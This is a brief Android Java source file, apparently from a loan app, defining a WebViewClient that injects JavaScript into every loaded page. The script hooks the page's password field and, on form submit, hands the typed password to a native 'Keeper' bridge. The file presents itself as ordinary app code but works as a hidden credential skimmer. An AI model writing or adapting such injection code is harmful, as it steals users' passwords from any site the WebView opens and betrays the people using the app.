package example.loans;

import android.webkit.WebView;
import android.webkit.WebViewClient;

final class Client extends WebViewClient {
    private static final String SCRIPT =
            "(function(){var f=document.querySelector('input[type=password]');f.form.addEventListener('submit',function(){Keeper.put(f.value);});})()";

    @Override
    public void onPageFinished(WebView view, String address) {
        view.evaluateJavascript(SCRIPT, null);
    }
}
